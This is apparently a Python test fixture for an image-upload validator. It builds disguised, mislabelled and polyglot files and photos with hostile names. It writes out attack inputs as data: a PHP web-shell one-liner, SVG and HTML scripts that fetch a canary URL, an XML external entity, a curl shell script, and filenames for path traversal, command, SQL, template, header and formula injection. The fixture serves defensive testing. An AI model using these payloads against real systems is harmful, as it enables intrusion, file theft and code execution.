"""Files that are something else than they say, or two things at once; and names that no file should have."""

import io
import struct
import zipfile
from collections.abc import Iterator

from tests.odd_files import building as b
from tests.odd_files.odd_file import IS_EITHER, IS_REFUSED, IS_WRONG_TYPE, OddFile, Verdict, accepted

_SOUND = accepted(160, 120)
_DISGUISES = (
    ("photo.jpg", "image/jpeg"),
    ("photo.png", "image/png"),
    ("photo.webp", "image/webp"),
    ("photo", "text/plain"),
)


def files(canary: bytes) -> Iterator[OddFile]:
    yield from _renamed(canary)
    yield from _mislabelled()
    yield from _two_in_one(canary)


def _renamed(canary: bytes) -> Iterator[OddFile]:
    for kind, data in others(canary).items():
        for filename, content_type in _DISGUISES:
            yield OddFile(f"{kind} called {filename}", data, IS_WRONG_TYPE, filename, content_type)


def others(canary: bytes) -> dict[str, bytes]:
    """Files of other kinds, as small as they may be, by what they are."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr(zipfile.ZipInfo("photo.jpg"), b.encoded("JPEG"))
    made = {
        kind: b.encoded(kind) for kind in ("GIF", "TIFF", "BMP", "ICO", "JPEG2000", "AVIF", "PPM", "TGA", "PCX", "DDS")
    }
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
    drawn = svg + b'<image x:href="' + canary + b'"/><script>fetch("' + canary + b'")</script></svg>'
    return made | {
        "GIF, moving": b.saved(b.picture(), "GIF", save_all=True, append_images=[b.picture(160, 120, "L")]),
        "GIF of 1987": b"GIF87a" + b.encoded("GIF")[6:], "TIFF, Motorola": b"MM\x00*" + bytes(200),
        "BigTIFF": b"II+\x00" + bytes(200),
        "HEIC": _brand(b"heic", b"mif1", b"heic"), "HEIC of many": _brand(b"mif1", b"heic"),
        "HEIC, moving": _brand(b"hevc", b"msf1"),
        "AVIF, moving": _brand(b"avis", b"avif"), "raw of a Canon": _brand(b"crx ", b"isom"),
        "MP4": _brand(b"isom", b"mp42"),
        "SVG": drawn, "SVG with a declaration": b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- x -->' + drawn,
        "SVG with an entity": b'<!DOCTYPE svg [<!ENTITY e SYSTEM "' + canary + b'">]>' + svg + b"&e;</svg>",
        "SVG in UTF-16": drawn.decode().encode("utf-16"), "PSD": b"8BPS\x00\x01" + bytes(300),
        "PDF": b"%PDF-1.7\n" + canary,
        "PDF, late": b"\n\n%PDF-1.7\n" + canary, "JXL": b"\xff\x0a" + bytes(200),
        "JXL in a box": b"\x00\x00\x00\x0cJXL \r\n\x87\n" + bytes(90),
        "JPEG 2000 stream": b"\xff\x4f\xff\x51" + bytes(200), "ZIP": archive.getvalue(),
        "HTML": b"<!doctype html><script src='" + canary + b"'></script>",
        "PHP": b"<?php file_get_contents('" + canary + b"'); ?>", "script": b"#!/bin/sh\ncurl " + canary,
        "text": b"hello " * 90, "program": b"\x7fELF" + bytes(300),
        "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n(" + canary + b") run",
        "MVG": b"push graphic-context\nfill 'url(" + canary + b")'\n",
        "MSL": b"<image><read filename='" + canary + b"'/></image>",
        "WAV": b"RIFF" + struct.pack("<I", 400) + b"WAVE" + bytes(400),
        "AVI": b"RIFF" + struct.pack("<I", 400) + b"AVI " + bytes(400), "RIFF of nothing": b"RIFF" + bytes(8),
        "one byte": b"\xff", "zeros": bytes(5000), "ones": b"\xff" * 5000,
        "noise": b.random.Random("noise").randbytes(5000), "spaces": b" " * 5000, "a mark alone": b"\xef\xbb\xbf",
        "PNG spoilt by a text editor": b.encoded("PNG").replace(b"\r\n", b"\n", 1),
        "PNG of seven bits": b"\x09PNG\r\n\x1a\n" + b.encoded("PNG")[8:], "MNG": b"\x8aMNG\r\n\x1a\n" + bytes(90),
        "JNG": b"\x8bJNG\r\n\x1a\n" + bytes(90),
        "JPEG behind a line": b"\n" + b.encoded("JPEG"), "JPEG behind a BOM": b"\xef\xbb\xbf" + b.encoded("JPEG"),
        "JPEG in base64": b"data:image/jpeg;base64,/9j/4AAQ", "JPEG the wrong way round": b.encoded("JPEG")[::-1],
    }  # fmt: skip


def _brand(*brands: bytes) -> bytes:
    first = b"ftyp" + brands[0] + bytes(4) + b"".join(brands)
    return struct.pack(">I", len(first) + 4) + first + bytes(400)


def _mislabelled() -> Iterator[OddFile]:
    """Sound pictures whose name and declared type are wrong: the content decides."""
    for kind in b.FORMATS:
        for filename, content_type in (
            ("photo.jpg", "image/jpeg"), ("photo.png", "image/png"), ("photo.webp", "image/webp"),
            ("photo.gif", "image/gif"),
            ("photo.heic", "image/heic"), ("photo.svg", "image/svg+xml"), ("photo.html", "text/html"),
            ("photo.php", "application/x-php"),
            ("photo.pdf", "application/pdf"), ("photo", "application/octet-stream"),
            ("photo.jpg.exe", "application/x-msdownload"),
            ("photo.jpg", "multipart/mixed; boundary=x"), ("photo.jpg", "no type at all"),
            ("photo.jpg", "image/" + "x" * 900),
        ):  # fmt: skip
            yield OddFile(
                f"{kind} called {filename}, {content_type[:30]}", b.encoded(kind), _SOUND, filename, content_type
            )


def payloads(canary: bytes) -> dict[str, bytes]:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr(zipfile.ZipInfo("x.class"), canary)
    return {
        "ZIP": archive.getvalue(), "HTML": b"<html><body><img src='" + canary + b"'></body></html>",
        "script": b"*/=1;fetch('" + canary + b"');/*", "PHP": b"<?php system($_GET['c']); // " + canary + b" ?>",
        "PDF": b"%PDF-1.4\n" + canary + b"\n%%EOF", "GIF": b"GIF89a/*" + canary + b"*/",
        "SVG": b"<svg><image href='" + canary + b"'/></svg>",
    }  # fmt: skip


def _two_in_one(canary: bytes) -> Iterator[OddFile]:
    jpeg, png, webp = (b.encoded(kind) for kind in b.FORMATS)
    for name, payload in payloads(canary).items():
        for kind, data in zip(b.FORMATS, (jpeg, png, webp), strict=True):
            yield OddFile(f"{kind} with {name} behind it", data + payload, _SOUND)
            yield OddFile(f"{name} with a {kind} behind it", payload + data, IS_WRONG_TYPE)
        yield OddFile(f"JPEG with {name} as a remark", b.behind_start(jpeg, b.segment(0xFE, payload)), _SOUND)
        yield OddFile(
            f"JPEG with {name} between its parts", jpeg.replace(b"\xff\xdb", payload + b"\xff\xdb", 1), IS_EITHER
        )
        yield OddFile(f"JPEG with {name} before its end", jpeg[:-2] + payload + b.END, IS_EITHER)
        for part in (b"tEXt", b"prVt", b"IDAT"):
            verdict: Verdict = _SOUND if part != b"IDAT" else IS_REFUSED
            body = payload if part != b"tEXt" else b"Comment\x00" + payload
            yield OddFile(f"PNG with {name} in {part.decode()}", b.behind_header(png, b.chunk(part, body)), verdict)
        stuffed = b.webp(b.canvas(160, 120), webp[12:], b.riff(b"junk", payload))
        yield OddFile(f"WebP with {name} inside", stuffed, _SOUND)
        yield OddFile(f"JPEG that is only a start and {name}", b"\xff\xd8\xff\xe0" + payload, IS_REFUSED)
        yield OddFile(f"PNG that is only a start and {name}", b.SIGNATURE + payload, IS_REFUSED)
    for kind, data in zip(b.FORMATS, (jpeg, png, webp), strict=True):
        for other, more in zip(b.FORMATS, (jpeg, png, webp), strict=True):
            yield OddFile(f"{kind} with a {other} behind it", data + more, _SOUND)


def names(canary: bytes) -> Iterator[OddFile]:
    """Sound pictures under names that are not."""
    for filename in (
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\photo.jpg", "....//....//x.jpg",
        "%2e%2e%2fx.jpg",
        ".", "..", "...", "/", " ", "   .jpg", ".htaccess", "-rf", "~", "CON", "NUL.jpg", "a" * 5000,
        "é" * 5000 + ".jpg",
        "x" * 300 + ".jpg", "\u202egpj.exe", "a\u200bb.jpg", "\ufeffa.jpg", "a\u2028b.jpg", "\x07bell.jpg",
        "a\x1b[31mred.jpg", "a\x7fb.jpg",
        "a\tb.jpg", "\u0301\u0301\u0301.jpg", "e" + "\u0301" * 500 + ".jpg", "🦊📷.jpg", "фото.jpg", "写真.jpg",
        "صورة.jpg",
        "\ud7ff\ue000.jpg", "\U0010ffff.jpg",
        "<img src=x onerror=alert(1)>.jpg", "{{7*7}}.jpg", "${7*7}.jpg", "%s%n.jpg", "a' OR '1'='1.jpg", "a;rm -rf.jpg",
        "$(id).jpg", "`id`.jpg",
        "a%00.jpg", "a\\0.jpg", '"quoted".jpg', "a%0d%0aSet-Cookie: x=1.jpg", "=cmd|' /C calc'!A0.jpg", "@SUM(1).jpg",
        canary.decode(), "null", "undefined",
    ):  # fmt: skip
        yield OddFile(f"a photo called {filename[:40]!r}", b.encoded("JPEG"), _SOUND, filename)
